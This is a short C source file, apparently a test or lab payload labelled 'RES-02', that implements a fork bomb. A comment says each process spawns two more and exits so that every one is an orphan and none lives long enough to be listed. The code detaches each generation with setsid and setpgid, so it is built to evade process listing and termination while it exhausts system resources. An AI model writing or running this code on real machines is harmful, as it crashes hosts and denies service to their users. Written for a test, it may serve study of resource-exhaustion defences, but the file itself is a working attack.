/* RES-02: every process makes the next two and exits; all are orphans, none lives long enough to be listed.
 */
#include "payload.h"

int main(void) {
  if (fork() == 0) {
    for (;;) {
      setsid();
      pid_t child = fork();
      if (child > 0) _exit(0);
      if (child == 0 && fork() == 0) setpgid(0, 0);
    }
  }
  for (;;) pause();
}
